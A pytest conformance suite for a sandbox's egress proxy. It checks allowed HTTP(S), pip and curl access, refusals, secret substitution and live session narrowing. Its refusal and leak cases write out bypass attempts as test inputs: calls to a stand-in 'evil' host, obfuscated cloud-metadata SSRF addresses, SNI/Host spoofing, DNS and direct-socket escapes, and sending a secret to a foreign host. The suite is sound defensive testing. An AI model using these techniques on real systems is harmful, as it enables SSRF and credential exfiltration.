"""Egress conformance: what a sandbox may reach, on every backend, through a real daemon.

One `tooljail serve --backend NAME` subprocess per backend for the module (process
and docker; docker skips without an engine and fails in CI), configured for the
local world of tests/egress_world.py: `[egress] allow` is CEILING, the world's
names map to its loopback servers through `[egress.hosts]`, the daemon trusts
the world's test CA upstream, and it holds one secret (NEWS_API_KEY, for
api.example.com only).

- Allowed: requests, httpx, urllib.request, pip and curl reach an allowed host
  from execute_python_code; a user tool and a session do too.
- Refused: each case of the issue's "Refused" list, asserting the reason in
  `result.egress_denied` AND that the world's servers recorded nothing for it
  (its traps included: a direct connect() or DNS query that got out would land
  there). Refusals the proxy never sees (DNS, a direct connect(), UDP) fail
  inside the sandbox instead, which the test asserts, with the same silence.
- Secrets: the server sees the value, the sandbox only the placeholder; a
  placeholder sent to another host (header, URL, POST body) is refused as a leak.
- A session narrowed live: connections made after `set_egress` returns are refused.

Code in the sandbox talks to pass-through HTTPS hosts, whose certificates chain
to the world's test CA (standing in for the public roots), so each snippet
begins with `trust_prelude` (the sandbox's own bundle + the test CA).
"""

from __future__ import annotations

import base64
import json
import signal
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import docker_problem, spawn_daemon, wait_serving
from tests.egress_world import (
    Seen,
    World,
    lib_prelude,
    trust_prelude,
    vendor_client_libs,
)
from tooljail import Client, ToolResult

NEWS_API_KEY = "news-" + "5ecret" * 6
"""The secret's value: the servers may see it, the sandbox never."""

CEILING = [
    "api.example.com",
    "data.example.org",
    "pypi.internal",
    "other.example.net",
    "*.files.example.org",
]
"""The daemon's `[egress] allow` (the module adds `localhost:<http port>`)."""

DENY = ["deny.files.example.org"]

TOOLS = '''
"""User tools of the egress conformance suite."""

import base64
import json
import os
import urllib.request

from tooljail import tool


@tool(sandbox={"egress": ["data.example.org"]})
def fetch_data(path: str = "/hello") -> dict:
    """GET http://data.example.org<path> through the sandbox's proxy, as any code would."""
    with urllib.request.urlopen("http://data.example.org" + path, timeout=15) as r:
        return {"status": r.status, "body": r.read().decode()}


@tool
def fetch_nothing_asked() -> dict:
    """Asks for no egress: has no network at all."""
    try:
        urllib.request.urlopen("http://data.example.org/hello", timeout=5)
    except Exception as exc:
        return {"failed_with": type(exc).__name__}
    return {"failed_with": None}


@tool(sandbox={"egress": ["api.example.com"]}, secrets=["NEWS_API_KEY"])
def news() -> dict:
    """The LightAgent example: an API key in the environment, an HTTPS API."""
    key = os.environ["NEWS_API_KEY"]
    request = urllib.request.Request(
        "https://api.example.com/echo", headers={"Authorization": "Bearer " + key}
    )
    with urllib.request.urlopen(request, timeout=15) as r:
        echoed = json.loads(r.read())
    return {"placeholder": key, "echoed": echoed["headers"].get("Authorization", "")}
'''

NET = r'''
import json, os, socket, ssl, sys, time

PROXY = ("127.0.0.1", 3128)


def _read(sock, connect=False):
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(65536)
        if not chunk:
            break
        data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    parts = lines[0].split() if lines and lines[0] else []
    status = int(parts[1]) if len(parts) > 1 and parts[1].isdigit() else 0
    length = None
    for line in lines[1:]:
        name, _, value = line.partition(":")
        if name.strip().lower() == "content-length":
            length = int(value.strip())
    if connect and status == 200:
        return status, body.decode("utf-8", "replace")
    try:
        while length is None or len(body) < length:
            chunk = sock.recv(65536)
            if not chunk:
                break
            body += chunk
    except OSError:
        pass
    return status, body.decode("utf-8", "replace")


def proxy_http(url, host=None, method="GET", headers=(), body=b""):
    """One request in absolute form to the proxy; (status, body)."""
    authority = url.split("/", 3)[2]
    lines = [f"{method} {url} HTTP/1.1", f"Host: {host or authority}", "Connection: close"]
    lines += [f"{k}: {v}" for k, v in headers]
    if body:
        lines.append(f"Content-Length: {len(body)}")
    with socket.create_connection(PROXY, timeout=15) as s:
        s.sendall(("\r\n".join(lines) + "\r\n\r\n").encode() + body)
        return _read(s)


def proxy_connect(target, sni=None, host=None, path="/hello", method="GET", headers=(), body=b""):
    """CONNECT target, then TLS with `sni` (None: the target's host) and one request."""
    name = target.rsplit(":", 1)[0].strip("[]")
    out = {}
    with socket.create_connection(PROXY, timeout=15) as s:
        s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        out["connect"], out["connect_body"] = _read(s, connect=True)
        if out["connect"] != 200:
            return out
        context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
        context.check_hostname = False
        try:
            t = context.wrap_socket(s, server_hostname=sni or name)
        except (OSError, ssl.SSLError) as exc:
            out["tls"] = repr(exc)
            return out
        lines = [f"{method} {path} HTTP/1.1", f"Host: {host or name}", "Connection: close"]
        lines += [f"{k}: {v}" for k, v in headers]
        if body:
            lines.append(f"Content-Length: {len(body)}")
        try:
            t.sendall(("\r\n".join(lines) + "\r\n\r\n").encode() + body)
            out["status"], out["body"] = _read(t)
        except (OSError, ssl.SSLError) as exc:
            out["error"] = repr(exc)
        return out


def report(**values):
    print(json.dumps(values))
'''


@dataclass
class EgressDaemon:
    """The module's daemon and what the tests need to know about it."""

    backend: str
    target: str
    base: Path
    world: World
    ceiling: list[str]
    libs: Path
    """requests, httpx and their imports, for a sandbox interpreter without them."""

    def log(self) -> str:
        return (self.base / "daemon.log").read_text(errors="replace")

    def client(self) -> Client:
        return Client(self.target)


BACKENDS = ["process", pytest.param("docker", marks=pytest.mark.docker)]


@pytest.fixture(scope="module", params=BACKENDS)
def egress_daemon(
    request: pytest.FixtureRequest,
    egress_world: World,
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[EgressDaemon]:
    """`tooljail serve --backend NAME` for the world, shared by the module."""
    backend = str(request.param)
    if backend == "docker" and (problem := docker_problem()) is not None:
        pytest.skip(problem)
    # pytest's temp dirs are deep: each gate's socket path passes sun_path's
    # 107 bytes here, which the daemon must handle.
    base = tmp_path_factory.mktemp(f"egress-{backend}")
    tools = base / "tools"
    tools.mkdir(mode=0o755)
    (tools / "egress_tools.py").write_text(TOOLS)
    libs = vendor_client_libs(tools / "_libs")
    ceiling = [*CEILING, f"localhost:{egress_world.http.port}"]
    config = egress_world.write_config(
        base / "tooljail.toml",
        allow=ceiling,
        deny=DENY,
        secrets={"NEWS_API_KEY": (NEWS_API_KEY, ["api.example.com"])},
    )
    process, target, base = spawn_daemon(
        base, "--config", str(config), "--backend", backend, "--tools-dir", str(tools)
    )
    try:
        wait_serving(target, process, base / "daemon.log")
        yield EgressDaemon(backend, target, base, egress_world, ceiling, libs)
    finally:
        if process.poll() is None:
            process.send_signal(signal.SIGTERM)
            try:
                process.wait(60)
            except Exception:
                process.kill()
                process.wait(10)


@pytest.fixture
def client(egress_daemon: EgressDaemon) -> Iterator[Client]:
    with egress_daemon.client() as c:
        yield c


def run(
    client: Client,
    code: str,
    *,
    daemon: EgressDaemon,
    egress: list[str] | None = None,
    secrets: list[str] | None = None,
    timeout: float = 60,
) -> tuple[ToolResult, dict[str, Any]]:
    """Run `code` (after the trust prelude and NET) in execute_python_code; its
    result and the JSON its last stdout line holds ({} when none)."""
    source = lib_prelude(daemon.libs) + trust_prelude(daemon.world) + NET + code
    result = client.call(
        "execute_python_code",
        {"code": source},
        egress=egress,
        secrets=secrets,
        tool_timeout_s=timeout,
    )
    return result, last_json(result)


def why(result: ToolResult) -> str:
    """What a failed result says: its message, error and the tool's stderr."""
    stderr = result.data.get("stderr", "") if isinstance(result.data, dict) else ""
    return f"{result.status}: {result.message} {result.error} {stderr[-2000:]}"


def last_json(result: ToolResult) -> dict[str, Any]:
    stdout = (result.data or {}).get("stdout", "") if isinstance(result.data, dict) else ""
    lines = [line for line in stdout.splitlines() if line.startswith("{")]
    return json.loads(lines[-1]) if lines else {}


def denials(result: ToolResult) -> set[tuple[str, int, str]]:
    return {(d.host.strip("[]").lower(), d.port, d.reason) for d in result.egress_denied}


def assert_silent(seen: Seen, what: str) -> None:
    """Nothing of a refused request reached any world server or trap."""
    assert seen.nothing, (
        f"{what}: the world saw "
        f"{[(c.server, c.peer, c.sni) for c in seen.connections]} "
        f"{[(r.server, r.method, r.path, r.host) for r in seen.requests]}"
    )


def assert_refused(
    result: ToolResult,
    out: dict[str, Any],
    seen: Seen,
    host: str,
    port: int,
    reason: str | tuple[str, ...],
) -> None:
    """Refused for `reason` (or one of them), and nothing reached the world."""
    assert result.ok, why(result)
    reasons = (reason,) if isinstance(reason, str) else reason
    got = denials(result)
    assert any((host, port, r) in got for r in reasons), (result.egress_denied, out)
    assert_silent(seen, f"{host}:{port} ({reason})")


# --------------------------------------------------------------------------- allowed


def test_the_sandbox_runs_on_the_backend_named(client: Client, egress_daemon: EgressDaemon) -> None:
    result = client.call(
        "execute_python_code", {"code": "import os; print(os.path.exists('/.dockerenv'))"}
    )
    assert result.ok, why(result)
    assert result.data["stdout"] == f"{egress_daemon.backend == 'docker'}\n"


def test_requests_reaches_an_allowed_https_host(
    client: Client, egress_daemon: EgressDaemon
) -> None:
    world = egress_daemon.world
    mark = world.mark()
    result, out = run(
        client,
        "import requests\n"
        "r = requests.get('https://api.example.com/hello', timeout=15)\n"
        "report(status=r.status_code, body=r.text)\n",
        daemon=egress_daemon,
        egress=["api.example.com"],
    )
    assert result.ok, why(result)
    assert out == {"status": 200, "body": "hello from https\n"}, result.data
    (hello,) = [r for r in world.since(mark).requests if r.path == "/hello"]
    assert (hello.server, hello.sni, hello.host) == ("https", "api.example.com", "api.example.com")
    assert result.egress_denied == ()
    assert result.usage is not None
    assert result.usage.net_connections >= 1
    assert result.usage.net_bytes_in > len("hello from https\n")
    assert result.usage.net_bytes_out > 0


def test_httpx_reaches_an_allowed_https_host(client: Client, egress_daemon: EgressDaemon) -> None:
    result, out = run(
        client,
        "import httpx\n"
        "r = httpx.get('https://api.example.com/file', timeout=15)\n"
        "report(status=r.status_code, size=len(r.content), first=r.content[:4].hex())\n",
        daemon=egress_daemon,
        egress=["api.example.com"],
    )
    assert result.ok, why(result)
    assert out == {"status": 200, "size": 1024, "first": "00010203"}, result.data


def test_urllib_reaches_allowed_http_and_https_hosts(
    client: Client, egress_daemon: EgressDaemon
) -> None:
    world = egress_daemon.world
    mark = world.mark()
    result, out = run(
        client,
        "import urllib.request\n"
        "a = urllib.request.urlopen('http://data.example.org/hello', timeout=15).read()\n"
        "b = urllib.request.urlopen('https://api.example.com/hello', timeout=15).read()\n"
        "report(plain=a.decode(), tls=b.decode())\n",
        daemon=egress_daemon,
        egress=["data.example.org", "api.example.com"],
    )
    assert result.ok, why(result)
    assert out == {"plain": "hello from http\n", "tls": "hello from https\n"}, result.data
    seen = world.since(mark)
    assert {(r.server, r.host) for r in seen.requests} == {
        ("http", "data.example.org"),
        ("https", "api.example.com"),
    }


def test_pip_downloads_from_an_allowed_index(client: Client, egress_daemon: EgressDaemon) -> None:
    result, out = run(
        client,
        "import subprocess, tempfile\n"
        "d = tempfile.mkdtemp()\n"
        "p = subprocess.run([sys.executable, '-m', 'pip', 'download', '--no-cache-dir',\n"
        "    '--disable-pip-version-check', '-d', d,\n"
        "    '--index-url', 'https://pypi.internal/simple', 'tjdemo'],\n"
        "    capture_output=True, text=True, timeout=120)\n"
        "report(rc=p.returncode, files=sorted(os.listdir(d)), err=p.stderr[-2000:])\n",
        daemon=egress_daemon,
        egress=["pypi.internal"],
        timeout=180,
    )
    assert result.ok, why(result)
    assert out.get("rc") == 0, out
    assert out["files"] == ["tjdemo-1.0-py3-none-any.whl", "tjdep-1.0-py3-none-any.whl"], out


def test_curl_reaches_an_allowed_host(client: Client, egress_daemon: EgressDaemon) -> None:
    result, out = run(
        client,
        "import subprocess\n"
        "p = subprocess.run(['curl', '-sS', '--fail', '--max-time', '15',\n"
        "    'https://api.example.com/hello'], capture_output=True, text=True, timeout=30)\n"
        "q = subprocess.run(['curl', '-sS', '--fail', '--max-time', '15',\n"
        "    'http://data.example.org/hello'], capture_output=True, text=True, timeout=30)\n"
        "report(tls=p.stdout, plain=q.stdout, err=p.stderr + q.stderr)\n",
        daemon=egress_daemon,
        egress=["api.example.com", "data.example.org"],
    )
    assert result.ok, why(result)
    assert out == {"tls": "hello from https\n", "plain": "hello from http\n", "err": ""}, out


def test_a_user_tool_reaches_the_host_its_decorator_allows(
    client: Client, egress_daemon: EgressDaemon
) -> None:
    result = client.call("fetch_data", {"path": "/hello"})
    assert result.ok, why(result)
    assert result.data == {"status": 200, "body": "hello from http\n"}


def test_a_user_tool_that_asks_for_nothing_has_no_network(
    client: Client, egress_daemon: EgressDaemon
) -> None:
    mark = egress_daemon.world.mark()
    result = client.call("fetch_nothing_asked", {})
    assert result.ok, why(result)
    assert result.data["failed_with"] is not None, result.data
    assert_silent(egress_daemon.world.since(mark), "a tool without egress")


def test_a_call_that_asks_for_nothing_has_no_network(
    client: Client, egress_daemon: EgressDaemon
) -> None:
    world = egress_daemon.world
    mark = world.mark()
    result, out = run(
        client,
        "import urllib.request\n"
        "try:\n"
        "    urllib.request.urlopen('http://data.example.org/hello', timeout=5)\n"
        "    report(error=None)\n"
        "except Exception as exc:\n"
        "    report(error=type(exc).__name__, proxy=os.environ.get('HTTP_PROXY'))\n",
        daemon=egress_daemon,
    )
    assert result.ok, why(result)
    assert out["error"] is not None and out["proxy"] is None, out
    assert_silent(world.since(mark), "a call without egress")


def test_a_session_reaches_an_allowed_host_across_calls(
    client: Client, egress_daemon: EgressDaemon
) -> None:
    world = egress_daemon.world
    mark = world.mark()
    with client.session(egress=["data.example.org"]) as session:
        assert list(session.info.egress) == ["data.example.org"]
        for _ in range(2):
            result = session.call(
                "execute_python_code",
                {
                    "code": "import urllib.request\n"
                    "print(urllib.request.urlopen('http://data.example.org/hello',"
                    " timeout=15).read().decode(), end='')\n"
                },
            )
            assert result.ok, why(result)
            assert result.data["stdout"] == "hello from http\n", result.data
    hellos = [r for r in world.since(mark).requests if r.path == "/hello"]
    assert [(r.server, r.host) for r in hellos] == [("http", "data.example.org")] * 2


# --------------------------------------------------------------------------- refused

REFUSALS: list[tuple[str, str, str, int, str | tuple[str, ...]]] = [
    # (id, code, denial host, port, reason)
    (
        "host_not_on_the_list",
        "report(**proxy_connect('evil.example.net:443'))",
        "evil.example.net",
        443,
        "not_allowed",
    ),
    (
        "host_not_on_the_list_plain_http",
        "s, b = proxy_http('http://evil.example.net/hello'); report(status=s, body=b)",
        "evil.example.net",
        80,
        "not_allowed",
    ),
    (
        "wildcard_parent",
        "report(**proxy_connect('files.example.org:443'))",
        "files.example.org",
        443,
        "not_allowed",
    ),
    (
        "deny_rule_wins_over_a_wildcard",
        "report(**proxy_connect('deny.files.example.org:443'))",
        "deny.files.example.org",
        443,
        "deny_rule",
    ),
    (
        "ip_literal_loopback",
        "report(**proxy_connect(f'127.0.0.1:{HTTPS_PORT}'))",
        "127.0.0.1",
        -1,
        "ip_literal",
    ),
    (
        "ip_literal_metadata",
        "s, b = proxy_http('http://169.254.169.254/latest/meta-data/'); report(status=s, body=b)",
        "169.254.169.254",
        80,
        "ip_literal",
    ),
    (
        # Names the C resolver reads as an address (inet_aton): 169.254.169.254.
        "inet_aton_forms_of_the_metadata_address",
        "a = proxy_http('http://0xa9fea9fe/latest/meta-data/');"
        " b = proxy_http('http://2852039166/latest/meta-data/'); report(status=a[0], body=a[1])",
        "0xa9fea9fe",
        80,
        ("ip_literal", "not_allowed", "bad_request"),
    ),
    (
        "name_resolving_to_loopback",
        "s, b = proxy_http(f'http://localhost:{HTTP_PORT}/hello'); report(status=s, body=b)",
        "localhost",
        -2,
        "private_address",
    ),
    (
        "ipv6_literal",
        "report(**proxy_connect(f'[::1]:{HTTPS_PORT}'))",
        "::1",
        -1,
        "ip_literal",
    ),
    (
        "port_not_on_the_rule",
        "report(**proxy_connect('api.example.com:8443'))",
        "api.example.com",
        8443,
        "port_not_allowed",
    ),
    (
        "connect_with_another_sni",
        "report(**proxy_connect('api.example.com:443', sni='other.example.net'))",
        "api.example.com",
        443,
        "sni_mismatch",
    ),
    (
        "plain_http_with_another_host_header",
        "s, b = proxy_http('http://data.example.org/hello', host='evil.example.net');"
        " report(status=s, body=b)",
        "data.example.org",
        80,
        "host_mismatch",
    ),
]


@pytest.mark.parametrize(
    ("code", "host", "port", "reason"),
    [pytest.param(*case[1:], id=case[0]) for case in REFUSALS],
)
def test_refused_with_its_reason_and_nothing_reaches_the_target(
    client: Client,
    egress_daemon: EgressDaemon,
    code: str,
    host: str,
    port: int,
    reason: str | tuple[str, ...],
) -> None:
    world = egress_daemon.world
    port = {-1: world.https.port, -2: world.http.port}.get(port, port)
    ports = f"HTTPS_PORT = {world.https.port}\nHTTP_PORT = {world.http.port}\n"
    mark = world.mark()
    result, out = run(client, ports + code, daemon=egress_daemon, egress=egress_daemon.ceiling)
    time.sleep(0.2)  # a connection the proxy let through would have landed by now
    assert_refused(result, out, world.since(mark), host, port, reason)
    # The refusal itself names the host, the port and why, for the model to act on.
    body = out.get("connect_body") or out.get("body") or ""
    status = out.get("connect") if "connect" in out and out["connect"] != 200 else out.get("status")
    if status == 403:
        assert host in body and str(port) in body, body
        assert any(r in body for r in ((reason,) if isinstance(reason, str) else reason)), body


def test_dns_from_inside_has_no_resolver_and_no_path(
    client: Client, egress_daemon: EgressDaemon
) -> None:
    world = egress_daemon.world
    traps = world.traps
    mark = world.mark()
    result, out = run(
        client,
        f"UDP_PORT = {traps.udp_port}\n"
        "import struct\n"
        "query = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)"
        " + b'\\x03api\\x07example\\x03com\\x00' + struct.pack('>HH', 1, 1)\n"
        "out = {}\n"
        "try:\n"
        "    out['gai'] = str(socket.getaddrinfo('api.example.com', 443))\n"
        "except OSError as exc:\n"
        "    out['gai'] = 'error:' + type(exc).__name__\n"
        "servers = ['8.8.8.8', '1.1.1.1', '127.0.0.53', '127.0.0.1']\n"
        "try:\n"
        "    for line in open('/etc/resolv.conf'):\n"
        "        if line.startswith('nameserver'):\n"
        "            servers.append(line.split()[1])\n"
        "except OSError:\n"
        "    pass\n"
        "sent = {}\n"
        "for server in servers:\n"
        "    for port in (53, UDP_PORT):\n"
        "        fam = socket.AF_INET6 if ':' in server else socket.AF_INET\n"
        "        with socket.socket(fam, socket.SOCK_DGRAM) as u:\n"
        "            try:\n"
        "                u.sendto(query, (server, port))\n"
        "                u.settimeout(0.3)\n"
        "                u.recvfrom(512)\n"
        "                sent[f'{server}:{port}'] = 'answered'\n"
        "            except OSError as exc:\n"
        "                sent[f'{server}:{port}'] = type(exc).__name__\n"
        "out['udp'] = sent\n"
        "report(**out)\n",
        daemon=egress_daemon,
        egress=egress_daemon.ceiling,
    )
    assert result.ok, why(result)
    assert out["gai"].startswith("error:"), out
    assert "answered" not in out["udp"].values(), out
    time.sleep(0.3)
    assert_silent(world.since(mark), "DNS from inside")


def test_a_direct_connect_bypassing_the_proxy_reaches_nothing(
    client: Client, egress_daemon: EgressDaemon
) -> None:
    import psutil

    world = egress_daemon.world
    addresses = sorted(
        {
            a.address.split("%")[0]
            for nics in psutil.net_if_addrs().values()
            for a in nics
            if a.family.name in ("AF_INET", "AF_INET6")
        }
        | {"127.0.0.1", "::1", "169.254.169.254", "8.8.8.8", "2001:4860:4860::8888"}
    )
    targets = [(a, world.traps.tcp_port) for a in addresses]
    targets += [("127.0.0.1", world.https.port), ("127.0.0.1", world.http.port)]
    mark = world.mark()
    result, out = run(
        client,
        f"TARGETS = {targets!r}\n"
        "out = {}\n"
        "for host, port in TARGETS:\n"
        "    fam = socket.AF_INET6 if ':' in host else socket.AF_INET\n"
        "    with socket.socket(fam, socket.SOCK_STREAM) as s:\n"
        "        s.settimeout(1)\n"
        "        try:\n"
        "            s.connect((host, port))\n"
        "            out[f'{host}:{port}'] = 'connected'\n"
        "        except OSError as exc:\n"
        "            out[f'{host}:{port}'] = type(exc).__name__\n"
        "report(**out)\n",
        daemon=egress_daemon,
        egress=egress_daemon.ceiling,
    )
    assert result.ok, why(result)
    # The sandbox's own loopback has its relay on 3128 and nothing on the world's ports.
    assert "connected" not in out.values(), out
    time.sleep(0.3)
    assert_silent(world.since(mark), "a direct connect()")


# --------------------------------------------------------------------------- secrets


def test_the_server_sees_the_secret_and_the_sandbox_only_its_placeholder(
    client: Client, egress_daemon: EgressDaemon
) -> None:
    world = egress_daemon.world
    mark = world.mark()
    result, out = run(
        client,
        "import base64, requests, urllib.parse\n"
        "key = os.environ['NEWS_API_KEY']\n"
        "h = requests.get('https://api.example.com/echo', timeout=15,\n"
        "    headers={'Authorization': 'Bearer ' + key})\n"
        "q = requests.get('https://api.example.com/echo', timeout=15, params={'key': key})\n"
        "b = requests.get('https://api.example.com/echo', timeout=15, auth=('user', key))\n"
        "environ = open('/proc/self/environ', 'rb').read().decode('latin-1')\n"
        "environ += repr(dict(os.environ))\n"
        "report(key=key, h=h.status_code, q=q.status_code, b=b.status_code,\n"
        "    echoed=h.json()['headers'].get('Authorization', ''), environ=environ)\n",
        daemon=egress_daemon,
        egress=["api.example.com"],
        secrets=["NEWS_API_KEY"],
    )
    assert result.ok, why(result)
    assert (out["h"], out["q"], out["b"]) == (200, 200, 200), out
    placeholder = out["key"]
    assert placeholder.startswith("tooljail-secret-") and NEWS_API_KEY not in placeholder
    # What the API echoed back is scrubbed to the placeholder again.
    assert out["echoed"] == f"Bearer {placeholder}", out
    # The value is nowhere in the result, the environment's dump included.
    assert NEWS_API_KEY not in json.dumps(result.model_dump(mode="json"))
    echo = [r for r in world.since(mark).requests if r.path.startswith("/echo")]
    assert len(echo) == 3, echo
    assert echo[0].header("Authorization") == f"Bearer {NEWS_API_KEY}"
    assert f"key={NEWS_API_KEY}" in echo[1].path
    basic = base64.b64encode(f"user:{NEWS_API_KEY}".encode()).decode()
    assert echo[2].header("Authorization") == f"Basic {basic}"
    assert all(placeholder.encode() not in r.raw() for r in echo)


def test_a_user_tool_declaring_a_secret_gets_it_swapped(
    client: Client, egress_daemon: EgressDaemon
) -> None:
    world = egress_daemon.world
    mark = world.mark()
    result = client.call("news", {})
    assert result.ok, why(result)
    placeholder = result.data["placeholder"]
    assert placeholder.startswith("tooljail-secret-"), result.data
    assert result.data["echoed"] == f"Bearer {placeholder}"
    (echo,) = [r for r in world.since(mark).requests if r.path == "/echo"]
    assert echo.header("Authorization") == f"Bearer {NEWS_API_KEY}"


LEAKS = [
    (
        "header",
        "r = requests.get('https://other.example.net/echo', timeout=15,"
        " headers={'X-Api-Key': key})",
    ),
    (
        "url",
        "r = requests.get('https://other.example.net/echo?k=' + key, timeout=15)",
    ),
    (
        "post_body",
        "r = requests.post('https://other.example.net/echo', timeout=15,"
        " data=('payload ' * 2000 + key + ' tail').encode())",
    ),
    (
        "plain_http_header",
        "r = requests.get('http://data.example.org/echo', timeout=15,"
        " headers={'Authorization': 'Bearer ' + key})",
    ),
]


@pytest.mark.parametrize("code", [pytest.param(c, id=i) for i, c in LEAKS])
def test_a_placeholder_sent_to_another_host_is_refused_as_a_leak(
    client: Client, egress_daemon: EgressDaemon, code: str
) -> None:
    world = egress_daemon.world
    mark = world.mark()
    result, out = run(
        client,
        "import requests\n"
        "key = os.environ['NEWS_API_KEY']\n"
        "try:\n"
        f"    {code}\n"
        "    report(status=r.status_code, body=r.text[:500], key=key)\n"
        "except requests.RequestException as exc:\n"
        "    report(error=repr(exc)[:500], key=key)\n",
        daemon=egress_daemon,
        egress=["api.example.com", "other.example.net", "data.example.org"],
        secrets=["NEWS_API_KEY"],
    )
    assert result.ok, why(result)
    assert out.get("status") != 200, out
    leaks = [d for d in result.egress_denied if d.reason == "secret_leak"]
    assert leaks, (result.egress_denied, out)
    assert leaks[0].host in ("other.example.net", "data.example.org"), leaks
    time.sleep(0.2)
    seen = world.since(mark)
    # Neither the value nor the placeholder reached anything; no request completed.
    for request in seen.requests:
        assert NEWS_API_KEY.encode() not in request.raw()
        assert out["key"].encode() not in request.raw()
    assert not [r for r in seen.requests if r.complete], seen.requests
    if "post_body" not in code:
        assert_silent(seen, "a leaked placeholder")
    assert NEWS_API_KEY not in json.dumps(result.model_dump(mode="json"))


def test_sni_and_host_must_match_the_connect_host_when_intercepted(
    client: Client, egress_daemon: EgressDaemon
) -> None:
    world = egress_daemon.world
    mark = world.mark()
    result, out = run(
        client,
        "a = proxy_connect('api.example.com:443', host='other.example.net', path='/echo')\n"
        "b = proxy_connect('api.example.com:443', sni='other.example.net', path='/echo')\n"
        "report(a=a, b=b)\n",
        daemon=egress_daemon,
        egress=["api.example.com", "other.example.net"],
        secrets=["NEWS_API_KEY"],
    )
    assert result.ok, why(result)
    got = denials(result)
    assert ("api.example.com", 443, "host_mismatch") in got, (result.egress_denied, out)
    assert ("api.example.com", 443, "sni_mismatch") in got, (result.egress_denied, out)
    time.sleep(0.2)
    assert_silent(world.since(mark), "an intercepted SNI/Host mismatch")


# --------------------------------------------------------------------------- live narrowing


def test_a_session_narrowed_live_refuses_new_connections_at_once(
    client: Client, egress_daemon: EgressDaemon
) -> None:
    """A call keeps opening connections to data.example.org while the host
    narrows its session to api.example.com only: every connection opened after
    set_egress returned (+10 ms) is refused, and the world sees none of them."""
    world = egress_daemon.world
    loop = (
        "import urllib.request, urllib.error\n"
        "events = []\n"
        "deadline = time.time() + 20\n"
        "while time.time() < deadline:\n"
        "    t = time.time()\n"
        "    try:\n"
        "        urllib.request.urlopen('http://data.example.org/hello', timeout=5).read()\n"
        "        events.append((t, 'ok'))\n"
        "    except urllib.error.HTTPError as exc:\n"
        "        events.append((t, exc.code))\n"
        "        if len([e for e in events if e[1] != 'ok']) >= 5:\n"
        "            break\n"
        "    time.sleep(0.002)\n"
        "report(events=events)\n"
    )
    with client.session(egress=["data.example.org", "api.example.com"]) as session:
        outcome: list[ToolResult] = []
        caller = threading.Thread(
            target=lambda: outcome.append(
                session.call("execute_python_code", {"code": NET + loop}, tool_timeout_s=60)
            )
        )
        caller.start()
        time.sleep(1.5)  # some allowed connections first
        before = time.time()
        mark = world.mark()
        info = session.set_egress(["api.example.com"])
        after = time.time()
        caller.join(60)
        assert list(info.egress) == ["api.example.com"]
    (result,) = outcome
    assert result.ok, why(result)
    events = last_json(result)["events"]
    assert any(kind == "ok" for t, kind in events if t < before), events
    late = [(t, kind) for t, kind in events if t > after + 0.010]
    assert late and all(kind == 403 for _, kind in late), (after, events)
    assert ("data.example.org", 80, "not_allowed") in denials(result)
    # What the world saw after the mark are the allowed connections opened around
    # the switch, none of the refused ones.
    seen = [r for r in world.since(mark).requests if r.host == "data.example.org"]
    allowed_near = [t for t, kind in events if kind == "ok" and t >= before - 0.5]
    assert len(seen) <= len(allowed_near), (seen, events)
